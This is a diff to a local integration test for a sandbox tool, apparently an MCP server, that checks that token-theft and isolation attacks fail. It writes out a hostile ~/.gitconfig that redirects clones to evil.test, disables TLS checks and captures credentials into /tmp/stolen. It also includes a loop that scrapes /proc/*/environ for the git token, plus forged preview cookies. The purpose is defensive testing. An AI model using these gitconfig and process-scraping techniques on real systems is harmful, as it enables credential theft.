@@ -8,12 +8,19 @@ test-only variables that git.test is that address, and checks: git_clone
 with a token (the token in no output, log, config or environment), branch
 and commit, refusals with reasons, the egress log in list_sandboxes, and
 preview links (cookie after the token, refused without it or for another
-port). Nothing leaves this machine. Exits non-zero with the reason when a
-check fails.
+port). The operator grants network `filtered` and the host extra.test
+(MOAT_ALLOW_NETWORK, MOAT_ALLOW_HOSTS); asking for more is refused.
+Attacks of issue 15 (items 3, 7 and 8) are tried and must fail: hosts and
+networks beyond the grants; a user's ~/.gitconfig, /proc/*/environ and a
+redirect to another host against git_clone's token; moat cookies and host
+secrets reaching a sandbox's server, and one link's page using another's.
+Nothing leaves this machine. Exits non-zero with the reason when a check
+fails.
 """
 
 import asyncio
 import base64
+import http.client
 import http.cookiejar
 import http.server
 import os
@@ -41,7 +48,7 @@ def make_ca_and_cert(work):
     key, csr, cert = (os.path.join(work, n) for n in ("git.key", "git.csr", "git.pem"))
     ext = os.path.join(work, "san.ext")
     with open(ext, "w") as f:
-        f.write("subjectAltName=DNS:git.test\nbasicConstraints=CA:FALSE\n")
+        f.write("subjectAltName=DNS:git.test,DNS:other.test\nbasicConstraints=CA:FALSE\n")
     run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", ca_key, "-out", ca, "-days", "2",
         "-subj", "/CN=moat test CA")
     run("openssl", "req", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", csr, "-subj", "/CN=git.test")
@@ -85,8 +92,19 @@ class GitHost(http.server.SimpleHTTPRequestHandler):
 
     expected = "Basic " + base64.b64encode(f"{USER}:{TOKEN}".encode()).decode()
     authorized = 0
+    requests = []  # (Host header, Authorization header) of every request
 
     def do_GET(self):
+        GitHost.requests.append((self.headers.get("Host", ""), self.headers.get("Authorization", "")))
+        if self.path.startswith("/moved.git/"):
+            # A repository that moved to another host: git follows, and
+            # must not take the token along.
+            port = self.server.server_address[1]
+            self.send_response(301)
+            self.send_header("Location", f"https://other.test:{port}/repo.git/" + self.path[len("/moved.git/"):])
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
         if self.headers.get("Authorization") != self.expected:
             self.send_response(401)
             self.send_header("WWW-Authenticate", 'Basic realm="git.test"')
@@ -139,7 +157,63 @@ def fetch(url, opener=None, cookie=None):
         return e.code, e.read().decode(errors="replace")
 
 
+async def beyond_the_grants(session):
+    """Issue 15, item 3: the operator grants filtered and extra.test."""
+    message = await call(session, "create_sandbox", {"network": "open"}, expect_error=True)
+    assert "MOAT_ALLOW_NETWORK" in message and "filtered" in message, message
+    for hosts in (["evil.test"], ["extra.test", "attacker.example"], ["sub.extra.test"]):
+        message = await call(session, "create_sandbox", {"network": "filtered", "allow_hosts": hosts},
+                             expect_error=True)
+        assert "MOAT_ALLOW_HOSTS" in message and hosts[-1] in message, message
+    listed = await call(session, "list_sandboxes", {})
+    assert listed["sandboxes"] == [], f"a refused call made a sandbox: {listed}"
+
+
+async def git_token_attacks(session, url, port, main):
+    """Issue 15, item 7: a process of the sandbox's user tries to get the
+    token: through ~/.gitconfig (insteadOf to another host, a proxy,
+    sslVerify off, its own credential helper), by reading every process's
+    environment and command line while the clone runs, and through a
+    redirect to another host. The clone succeeds; the token goes nowhere."""
+    hostile = "\n".join([
+        "[url \"https://evil.test:%d/\"]" % port, f"\tinsteadOf = https://git.test:{port}/",
+        "[http]", "\tproxy = http://127.0.0.1:9", "\tsslVerify = false",
+        "[credential]", "\thelper = \"!f() { cat >> /tmp/stolen; }; f\"",
+        "[core]", "\tsshCommand = touch /tmp/ran", ""])
+    await call(session, "write_file", {"path": ".gitconfig", "content": hostile})
+    await call(session, "run_command", {"cmd": "mkdir -p ~/.config/git && cp ~/.gitconfig ~/.config/git/config"})
+    # The pattern is in a file, so that no watcher's command line holds it.
+    await call(session, "write_file", {"path": "/tmp/pattern", "content": TOKEN[:12] + "\n"})
+    await call(session, "run_command", {
+        "cmd": "for i in $(seq 3000); do cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null "
+               "| tr '\\0' '\\n' | grep -a -F -f /tmp/pattern >> /tmp/seen; sleep 0.01; done",
+        "background": True})
+    cloned = await call(session, "git_clone", {"url": url, "path": "/workspace/guarded", "username": USER,
+                                               "token": TOKEN})
+    assert cloned == {"path": "/workspace/guarded", "commit": main}, cloned
+    out = await call(session, "run_command", {
+        "cmd": "stat -c %U /workspace/guarded /workspace/guarded/README /workspace/guarded/.git/config; "
+               "cat /tmp/stolen /tmp/ran 2>&1; cat /tmp/seen 2>/dev/null | wc -l; "
+               "ls /run | grep -c moat-git; ls /var/tmp | grep -c moat-clone"})
+    lines = out["stdout"].splitlines()
+    assert lines[:3] == ["user", "user", "user"], f"the checkout is not the user's: {out}"
+    assert "No such file" in out["stdout"] and TOKEN not in out["stdout"], f"~/.gitconfig was honoured: {out}"
+    assert lines[-3:] == ["0", "0", "0"], f"the token was seen by a user process, or files stayed: {out}"
+    await call(session, "run_command", {"cmd": "rm -rf ~/.gitconfig ~/.config/git; pkill -u user -f 'seq 3000'"})
+
+    # git.test/moved.git redirects to other.test: git follows, asks for
+    # credentials there, and gets none.
+    before = len(GitHost.requests)
+    message = await call(session, "git_clone", {"url": f"https://git.test:{port}/moved.git", "path": "moved",
+                                                "username": USER, "token": TOKEN}, expect_error=True)
+    assert TOKEN not in message, message
+    to_other = [(host, auth) for host, auth in GitHost.requests[before:] if host.startswith("other.test")]
+    assert to_other, f"the redirect was not followed: {GitHost.requests[before:]}"
+    assert all(not auth for _, auth in to_other), f"credentials went to another host: {to_other}"
+
+
 async def checks(session, port, first, main, feature, ca_pem):
+    await beyond_the_grants(session)
     box = await call(session, "create_sandbox", {
         "name": "net-test", "network": "filtered", "allow_hosts": ["extra.test"],
         "env": {"GIT_SSL_CAINFO": "/home/user/test-ca.pem"},
@@ -163,6 +237,7 @@ async def checks(session, port, first, main, feature, ca_pem):
     branch = await call(session, "git_clone", {"url": url, "path": "/workspace/feat", "branch": "feature",
                                                "username": USER, "token": TOKEN})
     assert branch["commit"] == feature, branch
+    await git_token_attacks(session, url, port, main)
 
     wrong = "ghp_wrongToken_9876543210"
     message = await call(session, "git_clone", {"url": url, "path": "w", "username": USER, "token": wrong},
@@ -175,7 +250,7 @@ async def checks(session, port, first, main, feature, ca_pem):
 
     # Filtered egress from a shell: a host that is not allowed, explained.
     out = await call(session, "run_command", {"cmd": f"curl -sS http://evil.test:{port}/"})
-    assert "evil.test is not an allowed host" in out["stdout"] and "allow_hosts" in out["stdout"], out
+    assert "evil.test is not an allowed host" in out["stdout"] and "MOAT_ALLOW_HOSTS" in out["stdout"], out
     listed = await call(session, "list_sandboxes", {})
     mine = next(s for s in listed["sandboxes"] if s["sandbox_id"] == box["sandbox_id"])
     assert {"git.test", "extra.test", "pypi.org", "registry.npmjs.org"} <= set(mine["allowed_hosts"]), mine
@@ -212,6 +287,71 @@ async def checks(session, port, first, main, feature, ca_pem):
     assert status == 403, "a token opens only its own port's link"
     message = await call(session, "preview_link", {"port": 0}, expect_error=True)
     assert "from 1 to 65535" in message, message
+    await preview_attacks(session, link, other)
+
+
+ECHO_SERVER = """
+import http.server
+class Echo(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        body = str(self.headers).encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *args):
+        pass
+http.server.ThreadingHTTPServer(("127.0.0.1", 8002), Echo).serve_forever()
+"""
+
+
+def raw_get(url, headers):
+    """GET with exactly these headers; returns (status, body)."""
+    request = urllib.request.Request(url, headers=headers)
+    try:
+        with urllib.request.build_opener().open(request, timeout=30) as response:
+            return response.status, response.read().decode(errors="replace")
+    except urllib.error.HTTPError as e:
+        return e.code, e.read().decode(errors="replace")
+
+
+async def preview_attacks(session, first, second):
+    """Issue 15, item 8: a sandbox's server sees the headers it is sent. It
+    must see no moat_* cookie (no link's token), no X-Moat header and not
+    moat-mcp's token; and a page of one link cannot use another."""
+    await call(session, "write_file", {"path": "echo.py", "content": ECHO_SERVER})
+    await call(session, "run_command", {"cmd": "python3 echo.py", "background": True})
+    echo = await call(session, "preview_link", {"port": 8002})
+    base = echo["url"].split("?")[0]
+    host_port = base.split(":")[2].strip("/")
+    cookie = (f"app=1; moat_preview_{host_port}={echo['token']}; "
+              f"moat_preview_{first['url'].split(':')[2].split('/')[0]}={first['token']}; moat_other={second['token']}")
+    for _ in range(100):
+        status, body = raw_get(base + "headers", {"Cookie": cookie, "X-Moat-Token": "x"})
+        if status == 200:
+            break
+        await asyncio.sleep(0.1)
+    assert status == 200 and "app=1" in body, (status, body)
+    for secret in (echo["token"], first["token"], second["token"], "moat_", "X-Moat"):
+        assert secret not in body, f"{secret} reached the sandbox: {body}"
+    # Every request of a kept-alive connection is cleaned, not only the first.
+    connection = http.client.HTTPConnection("127.0.0.1", int(host_port), timeout=30)
+    for path in ("/one", "/two"):
+        connection.request("GET", path, headers={"Cookie": cookie})
+        response = connection.getresponse()
+        body = response.read().decode()
+        assert response.status == 200 and "moat_" not in body and first["token"] not in body, (path, body)
+    connection.close()
+    # A page of the first link (its origin) cannot use the echo link, even
+    # with the echo link's cookie: the browser says where the request is from.
+    first_origin = "http://127.0.0.1:" + first["url"].split(":")[2].split("/")[0]
+    own = f"moat_preview_{host_port}={echo['token']}"
+    for headers in ({"Origin": first_origin}, {"Sec-Fetch-Site": "same-site"}, {"Sec-Fetch-Site": "cross-site"}):
+        status, body = raw_get(base + "headers", {"Cookie": own, **headers})
+        assert status == 403 and "another" in body, (headers, status, body)
+    status, body = raw_get(base + "headers", {"Cookie": own, "Sec-Fetch-Site": "same-origin",
+                                              "Origin": f"http://127.0.0.1:{host_port}"})
+    assert status == 200, (status, body)
 
 
 async def main(binary, work):
@@ -221,8 +361,11 @@ async def main(binary, work):
     port = server.server_address[1]
     env = dict(
         os.environ,
-        MOAT_GIT_HOSTS="git.test",
-        MOAT_TEST_RESOLVE="git.test=127.0.0.1,evil.test=127.0.0.1",
+        # The harness is the operator: it grants what the checks use.
+        MOAT_ALLOW_NETWORK="filtered",
+        MOAT_ALLOW_HOSTS="extra.test",
+        MOAT_GIT_HOSTS="git.test,other.test",
+        MOAT_TEST_RESOLVE="git.test=127.0.0.1,evil.test=127.0.0.1,other.test=127.0.0.1",
         MOAT_TEST_EGRESS_NETS="127.0.0.1/32",
         MOAT_LOG_LEVEL="debug",
     )
